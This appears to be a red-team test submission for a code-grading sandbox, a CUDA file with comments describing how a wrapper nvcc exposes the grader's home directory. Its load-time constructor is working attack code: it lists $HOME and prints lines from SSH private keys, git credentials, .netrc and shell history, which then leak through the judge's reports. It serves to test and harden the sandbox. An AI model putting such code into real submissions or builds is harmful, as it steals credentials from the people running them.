// RED TEAM (CUDA C++), finding 6: the sandbox lets a CUDA worker read "the toolkit", taken as the
// folder above nvcc's bin/ after realpath (cuda_build.toolkit_root).  When nvcc is a wrapper script
// rather than a link - this very image ships /usr/local/bin/nvcc as `exec /usr/local/cuda-13.0/bin/nvcc
// "$@"` - that folder is wherever the wrapper lives: /usr/local here (harmless: /usr is readable
// anyway), but $HOME for ~/bin/nvcc and ~/.local for ~/.local/bin/nvcc.  Every CUDA submission of a
// grade may then read the grader's home: its SSH keys, tokens, the grading checkout with the other
// submissions' originals and hidden tests, ~/.local/share/judge (the history).
//
// What it does: its constructor (it runs at load, in the sandbox) prints what it can read of $HOME
// (HOME is in the worker's allowed environment): a directory listing and the first lines of a few
// well-known files; solve() writes nothing, so the verdict is wrong_answer and the judge appends the
// solution's output tail to the message - into the grade's JSON, JUnit and CI summary.
//
// What a secure judge must answer: wrong_answer whose message holds none of $HOME's files ("cannot
// read"): the toolkit root must be a real toolkit (it holds include/cuda_runtime.h and nvvm/; else
// resolve it from `nvcc -v --dryrun` or refuse), never a folder that merely holds the wrapper.
// Insecure (current code, nvcc a wrapper in ~/bin): the listing and the files' lines in the report.
//
// Check: tests/test_cuda_redteam.py -k wrapper (CPU); pytest -m gpu tests/test_cuda_redteam_gpu.py -k home
#include <cuda_runtime.h>
#include <dirent.h>
#include <cstdio>
#include <cstdlib>
#include <string>

__attribute__((constructor)) static void look() {
    const char* home = std::getenv("HOME");
    if (!home) return;
    DIR* dir = opendir(home);
    std::fprintf(stderr, "listing %s: %s\n", home, dir ? "" : "cannot read");
    while (dir) {
        dirent* entry = readdir(dir);
        if (!entry) break;
        std::fprintf(stderr, "  %s\n", entry->d_name);
    }
    if (dir) closedir(dir);
    for (const char* name : {"/secret.txt", "/.ssh/id_ed25519", "/.ssh/id_rsa", "/.git-credentials", "/.netrc",
                             "/.bash_history"}) {
        std::string path = std::string(home) + name;
        FILE* file = std::fopen(path.c_str(), "r");
        std::fprintf(stderr, "%s: %s\n", path.c_str(), file ? "" : "cannot read");
        char line[256];
        for (int i = 0; file && i < 5 && std::fgets(line, sizeof line, file); ++i) std::fprintf(stderr, "  %s", line);
        if (file) std::fclose(file);
    }
}

extern "C" void solve(const float* input, float* output, int rows, int cols) {}
